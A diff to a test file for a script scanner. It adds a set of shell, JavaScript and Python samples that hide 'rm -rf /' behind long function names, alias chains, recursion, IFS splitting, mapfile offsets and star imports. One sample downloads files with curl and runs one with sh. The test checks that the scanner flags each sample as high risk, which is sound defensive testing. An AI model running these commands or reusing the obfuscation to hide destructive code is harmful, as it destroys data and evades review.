@@ -148,6 +148,7 @@ HOSTILE = {"children.js": "class A extends " * 30000, "waits.js": "await " * 100
            "strips.sh": f"y={'a' * 256}\n" + f"echo ${{y##*[{'b' * 400}]z}}\n" * 2000,
            "lists.py": f"import subprocess\nx='{'a' * 16000}'\nl=[{'x,' * 1000}]\n" + "subprocess.run(l)\n" * 5000,
            "groups.sh": "{\n" * 300 + "a b c\n" * 20000 + "} >x\n" * 300,
+           "handed.js": f"let m=require('fs')\nfunction f({{{','.join(f'a{i}' for i in range(500))}}}){{}}\n" + "f(m);" * 30000,
            # More than is looked at again: functions that call functions, a loop of many rounds.
            "calls.sh": "".join(f"f{i}() {{ " + f'f{i + 1} "$@"; ' * 10 + "}\n" for i in range(9)) + 'f9() { "$@"; }\nf0 ls\n',
            "chain.sh": "".join(f'f{i}() {{ f{i + 1} "$@"; }}\n' for i in range(30)) + 'f30() { "$@"; }\nf0 rm -rf /\n',
@@ -160,6 +161,29 @@ GROWING = {"twice.sh": "set -- a b\n" + "set -- $@ $@\n" * 40, "quoted.sh": "set
            "joined.js": f"x='{'a' * 8000}'\ny='{'b' * 16000}'\n" + "x.replace(/a/g, y);x.split('a').join(y)\n" * 2000,
            "literal.js": f"let x='{'a' * 16000}';let z=`{'${x}' * 50000}`\n",
            "default.sh": f"y={'a' * 16000}\necho ${{x:-{'$y' * 10000}}}\n"}
+
+
+# What is deeper, longer or more than is followed: each of these ends in rm -rf /, and none may pass for harmless.
+LONG = "n" * 150
+BEYOND = {"longname.sh": f'{LONG}() {{ "$@"; }}\n{LONG} rm -rf /\n',
+          "longalias.sh": f"alias {LONG}=rm\n{LONG} -rf /\n",
+          "aliases.sh": "".join(f"alias a{i}=a{i + 1}\n" for i in range(30)) + "alias a30=rm\na0 -rf /\n",
+          "itself.sh": 'f() { case $1 in x) shift; f "$@" ;; *) "$@" ;; esac; }\nf ' + "x " * 40 + "rm -rf /\n",
+          "mutual.sh": 'a() { shift; b "$@"; }\nb() { shift; a "$@"; "$@"; }\na ' + "x " * 9 + "rm -rf /\n",
+          "options.sh": "x=rm\ndeclare " + "-x " * 50 + "-n y=x\n$y -rf /\n",
+          "separators.sh": "IFS=QWERTYUIOPASDFGHJKLZXCVBNM1234567890_\nx=rmZ-rfZ/\n$x\n",
+          "lines.sh": "mapfile -t x <<E\n" + "l\n" * 9000 + "rm -rf /\nE\n${x[9000]}\n",
+          "words.sh": f"x='{'-v ' * 6000} -rf /'\nrm $x\n",
+          "fetched.sh": "".join(f"curl -so f{i} http://a/{i}\n" for i in range(300)) + "sh f299\n",
+          "dots.sh": f"rm -rf /tmp{'/.' * 600}/../home\n",
+          "imports.py": "".join(f"from m{i} import *\n" for i in range(20)) + "from os import *\nsystem('rm -rf /')\n"}
+
+
+def test_beyond(home):
+    for name, text in BEYOND.items():
+        home.put("beyond/" + name, text)
+        answer = home.data("scan", "beyond/" + name)
+        tap.ok(answer.get("risk") in ("high", "critical"), f"{name}: found, or not analysable", answer)
 
 
 def test_hostile(home):
@@ -246,7 +270,7 @@ def main():
         if "no scanner" in done.stderr:
             tap.skip("scan", "this build has no scanner")
             return tap.done()
-        for test in (test_object, test_formats, test_sarif, test_exits, test_unreadable, test_hostile, test_decoys,
+        for test in (test_object, test_formats, test_sarif, test_exits, test_unreadable, test_beyond, test_hostile, test_decoys,
                      test_policy):
             tap.attempt(test, home)
     return tap.done()
